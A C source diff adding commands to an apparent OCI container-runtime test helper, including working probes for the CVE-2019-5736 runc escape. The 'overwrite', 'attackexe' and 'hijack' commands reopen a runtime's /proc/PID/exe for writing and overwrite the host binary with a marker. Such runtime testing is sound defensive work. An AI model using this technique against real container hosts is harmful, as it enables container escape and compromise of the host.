@@ -19,6 +19,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mount.h>
 #include <sys/resource.h>
 #include <sys/stat.h>
 #include <sys/statfs.h>
@@ -40,7 +41,8 @@ static void usage(void) {
           "  write PATH | read PATH | cat PATH | stat PATH | readlink PATH | exists PATH\n"
           "  statfs PATH | statfs-ro PATH | mountinfo | mountopts PATH\n"
           "  forks N SECS | sleep SECS | exit N | segv | trap FILE | echo WORDS... | stderr WORDS...\n"
-          "  syscall NAME|NR\n");
+          "  syscall NAME|NR | fdlinks | mount SRC DST TYPE FLAGS | umount PATH\n"
+          "  overwrite PATH [MS] | attackexe ARGV0 [MS] | hijack FIFO STOPFILE SECS\n");
 }
 
 /* Prints the value of a "Key:\tvalue" line of /proc/self/status. */
@@ -119,6 +121,194 @@ static void unescape_mount_path(char *s) {
     }
   }
   *out = 0;
+}
+
+/* ---- CVE-2019-5736 probes ------------------------------------------------
+ * The published exploit: get an O_PATH handle on /proc/PID/exe of a runtime
+ * process that entered the container, then reopen it for writing through
+ * /proc/self/fd/N (retrying while the kernel says ETXTBSY, i.e. until the
+ * runtime has exited or exec'd) and overwrite the runtime's binary. */
+
+static long long now_ms(void) {
+  struct timespec ts;
+  clock_gettime(CLOCK_MONOTONIC, &ts);
+  return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
+}
+
+static void fd_link(int fd, char *buf, size_t len) {
+  char p[64];
+  snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
+  ssize_t n = readlink(p, buf, len - 1);
+  if (n < 0) n = 0;
+  buf[n] = 0;
+}
+
+/* Tries, for up to WAIT_MS, to write through handle H (an O_PATH fd). Writes
+ * "WROTE" or "denied <step>: <error>" into OUT. Returns 1 if it wrote. */
+static int overwrite_handle(int h, int wait_ms, char *out, size_t len) {
+  char self[64];
+  snprintf(self, sizeof self, "/proc/self/fd/%d", h);
+  long long deadline = now_ms() + wait_ms;
+  for (;;) {
+    int fd = open(self, O_WRONLY | O_CLOEXEC);
+    if (fd >= 0) {
+      static const char kMark[] = "PWNED by ocitest overwrite\n";
+      ssize_t n = pwrite(fd, kMark, sizeof kMark - 1, 0);
+      int err = errno;
+      close(fd);
+      if (n > 0) {
+        snprintf(out, len, "WROTE");
+        return 1;
+      }
+      snprintf(out, len, "denied write: %s", strerror(err));
+    } else {
+      snprintf(out, len, "denied open for writing: %s", strerror(errno));
+    }
+    if (now_ms() >= deadline) return 0;
+    usleep(10000);
+  }
+}
+
+/* overwrite PATH [MS] on an already known path (/proc/1/exe). */
+static int overwrite_path(const char *path, int wait_ms, char *out, size_t len) {
+  int h = open(path, O_PATH | O_CLOEXEC);
+  if (h < 0) {
+    snprintf(out, len, "denied open: %s", strerror(errno));
+    return 0;
+  }
+  int wrote = overwrite_handle(h, wait_ms, out, len);
+  close(h);
+  return wrote;
+}
+
+/* argv[0] of PID, or "" */
+static void proc_argv0(int pid, char *buf, size_t len) {
+  char p[64];
+  snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
+  buf[0] = 0;
+  int fd = open(p, O_RDONLY | O_CLOEXEC);
+  if (fd < 0) return;
+  ssize_t n = read(fd, buf, len - 1);
+  close(fd);
+  if (n < 0) n = 0;
+  buf[n] = 0; /* argv[0] ends at its NUL */
+}
+
+static void proc_exe(int pid, char *buf, size_t len) {
+  char p[64];
+  snprintf(p, sizeof p, "/proc/%d/exe", pid);
+  ssize_t n = readlink(p, buf, len - 1);
+  if (n < 0) {
+    snprintf(buf, len, "(%s)", strerror(errno));
+    return;
+  }
+  buf[n] = 0;
+}
+
+/* A binary of the container's own rootfs (the ones the tests use), as
+ * opposed to the runtime's. */
+static int rootfs_binary(const char *link) {
+  return !strncmp(link, "/bin/", 5) || !strcmp(link, "/ocitest") || !strncmp(link, "(", 1);
+}
+
+static int pid_gone(int pid) {
+  char p[64], buf[512];
+  snprintf(p, sizeof p, "/proc/%d/stat", pid);
+  int fd = open(p, O_RDONLY | O_CLOEXEC);
+  if (fd < 0) return 1;
+  ssize_t n = read(fd, buf, sizeof buf - 1);
+  close(fd);
+  if (n <= 0) return 1;
+  buf[n] = 0;
+  char *rp = strrchr(buf, ')');
+  return rp && (rp[2] == 'Z' || rp[2] == 'X');
+}
+
+/* Applies FN to every numeric /proc entry but ourselves. */
+static void for_each_pid(void (*fn)(int pid, void *ctx), void *ctx) {
+  DIR *d = opendir("/proc");
+  if (!d) return;
+  struct dirent *e;
+  while ((e = readdir(d))) {
+    char *end;
+    long pid = strtol(e->d_name, &end, 10);
+    if (*end || pid <= 0 || pid == getpid()) continue;
+    fn((int)pid, ctx);
+  }
+  closedir(d);
+}
+
+struct attack_ctx {
+  const char *argv0;
+  int wait_ms, found, wrote;
+};
+
+static void attack_one(int pid, void *vctx) {
+  struct attack_ctx *c = vctx;
+  char a0[PATH_MAX], exe[PATH_MAX], res[256];
+  proc_argv0(pid, a0, sizeof a0);
+  if (strcmp(a0, c->argv0) != 0) return;
+  proc_exe(pid, exe, sizeof exe);
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%d/exe", pid);
+  c->found++;
+  c->wrote += overwrite_path(path, c->wait_ms, res, sizeof res);
+  printf("pid %d exe=%s: %s\n", pid, exe, res);
+}
+
+struct hijack_ctx {
+  int seen[4096], nseen;
+  int caught, wrote;
+  const char *fifo;
+};
+
+static void hijack_one(int pid, void *vctx) {
+  struct hijack_ctx *c = vctx;
+  for (int i = 0; i < c->nseen; i++)
+    if (c->seen[i] == pid) return;
+  char exe[PATH_MAX], path[64], res[256];
+  proc_exe(pid, exe, sizeof exe);
+  if (rootfs_binary(exe)) return;  /* not (or no longer) the runtime */
+  snprintf(path, sizeof path, "/proc/%d/exe", pid);
+  int h = open(path, O_PATH | O_CLOEXEC);
+  if (h < 0) return;
+  fd_link(h, exe, sizeof exe);
+  if (rootfs_binary(exe)) { /* it exec'd the container's program meanwhile */
+    close(h);
+    return;
+  }
+  if (c->nseen < 4096) c->seen[c->nseen++] = pid;
+  /* Let the runtime go on: it may be blocked opening FIFO for writing. */
+  int r = open(c->fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
+  long long deadline = now_ms() + 5000;
+  char drain[4096];
+  while (!pid_gone(pid) && now_ms() < deadline) {
+    if (r >= 0) (void)!read(r, drain, sizeof drain);
+    usleep(5000);
+  }
+  if (r >= 0) close(r);
+  int wrote = overwrite_handle(h, 200, res, sizeof res);
+  close(h);
+  c->caught++;
+  c->wrote += wrote;
+  printf("caught pid %d exe=%s (%s): %s\n", pid, exe, pid_gone(pid) ? "exited" : "running", res);
+  fflush(stdout);
+}
+
+static unsigned long mount_flags(const char *s) {
+  unsigned long f = 0;
+  char buf[256];
+  snprintf(buf, sizeof buf, "%s", s);
+  char *save = NULL;
+  for (char *t = strtok_r(buf, ",", &save); t; t = strtok_r(NULL, ",", &save)) {
+    if (!strcmp(t, "bind")) f |= MS_BIND;
+    else if (!strcmp(t, "rec")) f |= MS_REC;
+    else if (!strcmp(t, "remount")) f |= MS_REMOUNT;
+    else if (!strcmp(t, "ro")) f |= MS_RDONLY;
+    else if (!strcmp(t, "move")) f |= MS_MOVE;
+    else if (!strcmp(t, "private")) f |= MS_PRIVATE;
+  }
+  return f;
 }
 
 static volatile sig_atomic_t g_sig;
@@ -538,6 +728,94 @@ static int run_one(int argc, char **argv) {
       printf("ok\n");
     }
     return 2;
+  }
+  if (!strcmp(cmd, "fdlinks")) {
+    /* "3=/path 4=pipe:[123]" for every open fd above 2, or "none". */
+    DIR *d = opendir("/proc/self/fd");
+    if (!d) {
+      printf("%s\n", strerror(errno));
+      return 1;
+    }
+    int self = dirfd(d), n = 0;
+    struct dirent *e;
+    while ((e = readdir(d))) {
+      if (e->d_name[0] == '.') continue;
+      int fd = atoi(e->d_name);
+      if (fd <= 2 || fd == self) continue;
+      char link[PATH_MAX];
+      fd_link(fd, link, sizeof link);
+      printf("%s%d=%s", n++ ? " " : "", fd, link);
+    }
+    closedir(d);
+    printf("%s\n", n ? "" : "none");
+    return 1;
+  }
+  if (!strcmp(cmd, "mount")) {
+    /* mount SRC DST TYPE FLAGS: TYPE "-" for none, FLAGS a comma list of
+     * bind,rec,remount,ro,move,private or "-". Prints "ok" or the error. */
+    if (argc < 5) {
+      fprintf(stderr, "ocitest mount: usage: mount SRC DST TYPE FLAGS\n");
+      return -1;
+    }
+    const char *type = strcmp(argv[3], "-") ? argv[3] : NULL;
+    int rc = mount(argv[1], argv[2], type, mount_flags(argv[4]), NULL);
+    printf("%s\n", rc == 0 ? "ok" : strerror(errno));
+    return 5;
+  }
+  if (!strcmp(cmd, "umount")) {
+    /* umount PATH: plain, then lazy; "umount=<result> lazy=<result>". */
+    NEED_ARG();
+    int rc = umount2(arg, 0);
+    printf("umount=%s", rc == 0 ? "ok" : strerror(errno));
+    rc = umount2(arg, MNT_DETACH);
+    printf(" lazy=%s\n", rc == 0 ? "ok" : strerror(errno));
+    return 2;
+  }
+  if (!strcmp(cmd, "overwrite")) {
+    /* overwrite PATH [MS]: the CVE-2019-5736 write through an O_PATH handle,
+     * retried for MS milliseconds (default 0). "<link>: WROTE" or
+     * "<link>: denied <step>: <error>". */
+    NEED_ARG();
+    int has_ms = argc > 2 && argv[2][0] >= '0' && argv[2][0] <= '9';
+    int ms = has_ms ? atoi(argv[2]) : 0;
+    char link[PATH_MAX], res[256];
+    ssize_t n = readlink(arg, link, sizeof link - 1);
+    link[n < 0 ? 0 : n] = 0;
+    overwrite_path(arg, ms, res, sizeof res);
+    printf("%s: %s\n", link, res);
+    return has_ms ? 3 : 2;
+  }
+  if (!strcmp(cmd, "attackexe")) {
+    /* attackexe ARGV0 [MS]: overwrite /proc/PID/exe of every process whose
+     * argv[0] is ARGV0 (the runtime, seen through a shared pid namespace).
+     * One line per process, then "found=N wrote=M". */
+    NEED_ARG();
+    int has_ms = argc > 2 && argv[2][0] >= '0' && argv[2][0] <= '9';
+    struct attack_ctx c = {arg, has_ms ? atoi(argv[2]) : 0, 0, 0};
+    for_each_pid(attack_one, &c);
+    printf("found=%d wrote=%d\n", c.found, c.wrote);
+    return has_ms ? 3 : 2;
+  }
+  if (!strcmp(cmd, "hijack")) {
+    /* hijack FIFO STOPFILE SECS: until STOPFILE exists or SECS pass, watch
+     * our pid namespace for processes running a binary that is not one of
+     * the rootfs's (the runtime: before its execve, or run by the kernel as
+     * "#!/proc/self/exe"); grab their exe, unblock a writer of FIFO, wait for
+     * the process to exit, then try to overwrite the binary. One line per
+     * catch, then "caught=N wrote=M". Prints "watching" once started. */
+    if (argc < 4) {
+      fprintf(stderr, "ocitest hijack: usage: hijack FIFO STOPFILE SECS\n");
+      return -1;
+    }
+    static struct hijack_ctx c;
+    memset(&c, 0, sizeof c);
+    c.fifo = argv[1];
+    long long deadline = now_ms() + 1000LL * atoi(argv[3]);
+    printf("watching\n");
+    fflush(stdout);
+    while (now_ms() < deadline && access(argv[2], F_OK) != 0) for_each_pid(hijack_one, &c);
+    printf("caught=%d wrote=%d\n", c.caught, c.wrote);
+    return 4;
   }
   if (!strcmp(cmd, "echo") || !strcmp(cmd, "stderr")) {
     FILE *out = !strcmp(cmd, "echo") ? stdout : stderr;
